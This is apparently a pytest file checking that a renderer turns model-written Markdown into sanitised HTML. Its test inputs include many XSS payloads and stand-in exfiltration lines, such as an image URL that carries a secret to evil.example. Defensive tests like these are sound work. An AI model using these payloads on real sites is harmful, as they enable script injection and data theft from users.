"""Markdown from a model becomes clean HTML, whatever stands in it."""

import re

import pytest

from conversations.rendering import render

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](ms-msdt:/id)",
    "![x](https://evil.example/?q=SECRET)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "<b hx-get='/settings/keys/' data-hx-post='/x' hx-on:click='alert(1)'>x</b>",
    "<div id=balance name=csrfmiddlewaretoken hx-swap-oob=true>0</div>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=a></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    '```x" onmouseover="alert(1)\ncode\n```',
    "```<img src=x onerror=alert(1)>\ncode\n```",
    '[x](https://a.example "t\\" onclick=\\"alert(1)")',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|-|\n| x |",
]
ALLOWED_TAG = re.compile(
    r"</?(a|b|blockquote|br|code|del|em|h[1-6]|hr|i|li|ol|p|pre|s|span|strong|table|tbody|td|th|thead|tr|ul)"
    r'( (href|title|class|start|align|target|rel)="[^"]*")*\s*/?>'
)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_survives(text):
    html = render(text)
    rest = ALLOWED_TAG.sub("", html)
    assert "<" not in rest
    assert not re.search(r'href="(?!https?://|mailto:)', html)


def test_links_open_elsewhere_and_tell_nothing():
    assert render("[docs](https://example.org)") == (
        '<p><a href="https://example.org" target="_blank" rel="noopener noreferrer nofollow">docs</a></p>\n'
    )


def test_an_image_becomes_a_link():
    html = render("![a cat](https://example.org/cat.png)")
    assert "<img" not in html
    assert '<a href="https://example.org/cat.png"' in html
    assert ">a cat</a>" in html


def test_code_is_highlighted_and_keeps_its_language():
    html = render("```python\ndef f():\n    return 1\n```")
    assert '<code class="language-python">' in html
    assert '<span class="k">def</span>' in html


def test_an_unknown_language_is_shown_as_it_is():
    assert render("```klingon\n<b>\n```") == '<pre><code class="language-klingon">&lt;b&gt;\n</code></pre>\n'


def test_tables_keep_their_alignment_without_styles():
    html = render("| a | b |\n|--:|---|\n| 1 | 2 |")
    assert '<th align="right">a</th>' in html
    assert "style" not in html


def test_no_class_of_the_site_can_be_claimed():
    assert 'class="btn' not in render("```btn btn--primary\nx\n```")


def test_lists_strike_and_breaks():
    assert render("1. one\n2. two\n\n~~old~~") == ("<ol>\n<li>one</li>\n<li>two</li>\n</ol>\n<p><s>old</s></p>\n")
